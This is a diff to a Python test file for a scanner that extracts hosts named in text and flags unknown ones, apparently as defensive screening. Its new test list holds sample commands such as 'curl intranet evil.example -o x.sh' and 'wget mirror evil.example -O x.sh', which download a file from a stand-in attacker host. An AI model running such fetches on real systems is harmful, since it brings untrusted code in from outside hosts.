@@ -95,6 +95,10 @@ def test_the_same_commands_with_hosts_the_skill_names_pass(content: str) -> None
         ("- `curl -A 'agent (ci|cd)' -H 'X: a;b' api.acme.dev/x`", {"api.acme.dev"}),
         ("- `xh post api.acme.dev/items name=foo.bar`", {"api.acme.dev"}),
         ("- `ssh deploy@staging.acme.dev sudo systemctl restart nginx.service`", set()),
+        # the first argument is the URL even as a plain word, but prose still ends after it
+        ("- Use curl sparingly on flaky.example.com endpoints.", set()),
+        ("- When curl fails behind proxy.corp.example, set HTTPS_PROXY.", set()),
+        ("- Check curl output against api.other.example.", set()),
     ],
     ids=repr,
 )
@@ -154,3 +158,22 @@ def test_a_host_after_a_command_substitution_is_named(content: str) -> None:
 )
 def test_what_ends_the_command_still_ends_it_after_a_substitution(content: str) -> None:
     assert "evil.example" not in hosts_in(content)
+
+
+BARE_WORDS = [
+    "curl intranet evil.example",
+    "- Fetch both: curl intranet evil.example -o x.sh",
+    "wget mirror evil.example -O x.sh",
+    "xh get intranet evil.example",  # a method first: the URL comes next
+    "```\ncurl foo bar evil.example\n```",  # in a fenced code block no word is prose
+]
+
+
+@pytest.mark.parametrize("content", BARE_WORDS, ids=repr)
+def test_a_host_after_a_plain_word_argument_is_named(content: str) -> None:
+    """curl fetches a plain word as a URL (``intranet``): the first argument is no prose even
+    when it looks like English, so the reading goes on to ``evil.example`` (it ended at the
+    plain word before the fix, and ``evil.example`` passed)."""
+    assert "evil.example" in hosts_in(content)
+    assert "unknown-host" in {f.kind for f in screen_text(content, NO_HOSTS)}
+    assert "unknown-host" in kinds(content, CTX)
